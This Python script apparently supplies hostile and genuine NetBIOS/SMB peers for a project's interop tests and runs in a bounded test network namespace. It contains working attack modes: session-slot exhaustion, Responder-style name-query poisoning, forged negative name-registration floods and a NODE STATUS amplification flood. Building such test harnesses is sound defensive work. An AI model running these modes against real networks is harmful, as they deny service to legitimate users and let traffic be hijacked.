#!/usr/bin/env python3
"""Hostile and genuine peers for the interop tests of issue 17 ("Hostile networks, round two").

Run inside a network namespace that the test created; every mode is bounded in time and in packets or connections.
Each mode prints one-line progress and a final "result ..." line that the test parses.

  silent-sessions TARGET NAME SUFFIX --sources A,B,... --per-source N --seconds S
      From each source address, N sessions to NAME<SUFFIX> at TARGET:139 that are accepted and then stay silent;
      closed ones are reopened until S seconds have passed. Prints "filled N", then "holding" once every session of
      the first pass has been idle for --idle seconds.
  callers TARGET NAME SUFFIX --count N [--simultaneous] [--interval SEC] [--source ADDR]
      Genuine callers: connect, SESSION REQUEST, on a positive response one SESSION MESSAGE, then close.
  impostor OWN --seconds S
      Responder-style: answers every NAME QUERY REQUEST with OWN, counts what then comes to TCP 139 and UDP 138.
  negative-flood TARGET NAME --suffixes 00,20 --seconds S [--rate PPS]
      NEGATIVE NAME REGISTRATION RESPONSEs (ACT_ERR) with random TRN_IDs for the names, to TARGET:137.
  status-flood TARGET --seconds S [--rate PPS]
      NODE STATUS REQUESTs (50 bytes) to TARGET:137 from one source; counts the bytes sent and received back
      (what a spoofed victim would get: the amplification).
"""
import argparse, os, random, resource, select, signal, socket, struct, sys, threading, time


def encode_name(name, suffix):
    raw = name.encode('ascii')[:15].ljust(15, b' ') + bytes([suffix])
    out = bytearray([32])
    for b in raw:
        out += bytes([0x41 + (b >> 4), 0x41 + (b & 0x0F)])
    return bytes(out + b'\x00')


def session_request(called, calling):
    body = called + calling
    return struct.pack('>BBH', 0x81, 0, len(body)) + body


def say(*parts):
    print(*parts, flush=True)


def open_session(target, called, calling, source=None, timeout=5.0):
    """One call: the response type byte (0x82 positive, 0x83 negative + code), or an error string."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        if source:
            s.bind((source, 0))
        s.connect((target, 139))
        s.sendall(session_request(called, calling))
        head = b''
        while len(head) < 4:
            chunk = s.recv(4 - len(head))
            if not chunk:
                s.close()
                return None, 'closed'
            head += chunk
        if head[0] == 0x82:
            return s, 'positive'
        code = s.recv(1)
        s.close()
        return None, 'negative 0x%02x' % (code[0] if code else 0)
    except OSError as e:
        s.close()
        return None, type(e).__name__


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = 16384 if hard == resource.RLIM_INFINITY else min(hard, 16384)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def silent_sessions(a):
    raise_fd_limit()
    called = encode_name(a.name, int(a.suffix, 0))
    sources = a.sources.split(',')
    deadline = time.monotonic() + a.seconds
    held = {}  # (source, i) -> socket
    opened = refused = 0
    first_pass = True
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    while time.monotonic() < deadline and not stop[0]:
        for src in sources:
            for i in range(a.per_source):
                if (src, i) in held or time.monotonic() >= deadline:
                    continue
                s, how = open_session(a.target, called, encode_name('SILENT%d' % i, 0), src, timeout=2.0)
                if s:
                    held[(src, i)] = s
                    opened += 1
                else:
                    refused += 1
        if first_pass:
            say('filled %d refused %d' % (len(held), refused))
            end = min(deadline, time.monotonic() + a.idle)
            while time.monotonic() < end:
                time.sleep(0.1)
            say('holding %d' % len(held))
            first_pass = False
        # Reap what the server closed (it evicted them), then reopen on the next pass. poll, not select: more than
        # FD_SETSIZE (1024) sockets.
        if held:
            poller = select.poll()
            by_fd = {}
            for key, s in held.items():
                poller.register(s, select.POLLIN | select.POLLHUP | select.POLLERR)
                by_fd[s.fileno()] = key
            for fd, _ in poller.poll(500):
                key = by_fd[fd]
                s = held[key]
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b''
                if not data:
                    s.close()
                    del held[key]
                # keepalives (0x85) are read and ignored: the attacker never sends a byte after its request
        else:
            time.sleep(0.5)
    say('result opened %d held %d refused %d' % (opened, len(held), refused))
    for s in held.values():
        s.close()


def callers(a):
    called = encode_name(a.name, int(a.suffix, 0))
    results = [None] * a.count

    def one(i):
        s, how = open_session(a.target, called, encode_name('GENUINE%d' % i, 0), a.source, timeout=a.timeout)
        if s:
            try:
                s.sendall(struct.pack('>BBH', 0, 0, 2) + b'hi')
            except OSError:
                how = 'send failed'
            s.close()
        results[i] = how

    if a.simultaneous:
        threads = [threading.Thread(target=one, args=(i,)) for i in range(a.count)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(a.timeout + 5)
    else:
        for i in range(a.count):
            one(i)
            time.sleep(a.interval)
    ok = sum(1 for r in results if r == 'positive')
    failures = sorted(set(str(r) for r in results if r != 'positive'))
    say('result ok %d of %d failures %s' % (ok, a.count, ','.join(failures) or '-'))


def impostor(a):
    own = socket.inet_aton(a.own)
    ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    ns.bind(('0.0.0.0', 137))
    dg = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dg.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    dg.bind(('0.0.0.0', 138))
    ss = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ss.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ss.bind(('0.0.0.0', 139))
    ss.listen(64)
    answered = sessions = datagrams = 0
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    deadline = time.monotonic() + a.seconds
    say('impostor ready')
    while not stop[0] and time.monotonic() < deadline:
        readable, _, _ = select.select([ns, dg, ss], [], [], 0.2)
        for r in readable:
            if r is ss:
                c, _ = ss.accept()
                sessions += 1
                say('session from %s' % c.getpeername()[0])
                c.close()
            elif r is dg:
                dg.recvfrom(2048)
                datagrams += 1
            else:
                data, peer = ns.recvfrom(2048)
                if len(data) < 12 + 34 + 4:
                    continue
                trn, flags = struct.unpack('>HH', data[:4])
                if flags & 0x8000 or (flags >> 11) & 0xF != 0 or struct.unpack('>H', data[12 + 34:12 + 36])[0] != 0x20:
                    continue  # only NAME QUERY requests (not node status)
                question = data[12:12 + 34]
                reply = struct.pack('>HHHHHH', trn, 0x8500, 0, 1, 0, 0) + question + struct.pack('>HHIH', 0x20, 1, 300000, 6) + b'\x00\x00' + own
                ns.sendto(reply, peer)
                answered += 1
    say('result answered %d sessions %d datagrams %d' % (answered, sessions, datagrams))


def negative_flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    names = [encode_name(a.name, int(x, 16)) for x in a.suffixes.split(',')]
    flags = 0x8000 | (5 << 11) | 0x0400 | 0x0100 | 0x0080 | 6  # response, registration, AA RD RA, ACT_ERR
    own = socket.inet_aton(a.claim)
    deadline = time.monotonic() + a.seconds
    sent = 0
    interval = 1.0 / a.rate
    next_at = time.monotonic()
    while time.monotonic() < deadline and sent < a.rate * a.seconds:
        name = names[sent % len(names)]
        packet = struct.pack('>HHHHHH', random.randrange(65536), flags, 0, 1, 0, 0) + name + struct.pack('>HHIH', 0x20, 1, 0, 6) + b'\x00\x00' + own
        try:
            s.sendto(packet, (a.target, 137))
        except OSError:
            pass
        sent += 1
        next_at += interval
        delay = next_at - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    say('result sent %d' % sent)


def status_flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    wildcard = bytes([32]) + bytes([0x43, 0x4B]) + b'A' * 30 + b'\x00'  # '*' then 15 NULs
    deadline = time.monotonic() + a.seconds
    sent = bytes_out = received = bytes_in = 0
    interval = 1.0 / a.rate
    next_at = time.monotonic()
    while time.monotonic() < deadline and sent < a.rate * a.seconds:
        packet = struct.pack('>HHHHHH', random.randrange(65536), 0x0000, 1, 0, 0, 0) + wildcard + struct.pack('>HH', 0x21, 1)
        try:
            s.sendto(packet, (a.target, 137))
            sent += 1
            bytes_out += len(packet)
        except OSError:
            pass
        while True:
            try:
                data = s.recv(2048)
            except (BlockingIOError, OSError):
                break
            received += 1
            bytes_in += len(data)
        next_at += interval
        delay = next_at - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        try:
            data = s.recv(2048)
            received += 1
            bytes_in += len(data)
        except (BlockingIOError, OSError):
            time.sleep(0.01)
    say('result sent %d bytes_out %d received %d bytes_in %d' % (sent, bytes_out, received, bytes_in))


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest='mode', required=True)
    q = sub.add_parser('silent-sessions')
    q.add_argument('target'); q.add_argument('name'); q.add_argument('suffix')
    q.add_argument('--sources', required=True); q.add_argument('--per-source', type=int, default=10)
    q.add_argument('--seconds', type=float, default=30); q.add_argument('--idle', type=float, default=6)
    q.set_defaults(run=silent_sessions)
    q = sub.add_parser('callers')
    q.add_argument('target'); q.add_argument('name'); q.add_argument('suffix')
    q.add_argument('--count', type=int, default=10); q.add_argument('--simultaneous', action='store_true')
    q.add_argument('--interval', type=float, default=0.0); q.add_argument('--source'); q.add_argument('--timeout', type=float, default=10)
    q.set_defaults(run=callers)
    q = sub.add_parser('impostor')
    q.add_argument('own'); q.add_argument('--seconds', type=float, default=60)
    q.set_defaults(run=impostor)
    q = sub.add_parser('negative-flood')
    q.add_argument('target'); q.add_argument('name'); q.add_argument('--suffixes', default='00,03,20')
    q.add_argument('--claim', default='10.0.0.66'); q.add_argument('--seconds', type=float, default=10); q.add_argument('--rate', type=float, default=2000)
    q.set_defaults(run=negative_flood)
    q = sub.add_parser('status-flood')
    q.add_argument('target'); q.add_argument('--seconds', type=float, default=5); q.add_argument('--rate', type=float, default=1000)
    q.set_defaults(run=status_flood)
    a = p.parse_args()
    a.run(a)


if __name__ == '__main__':
    main()
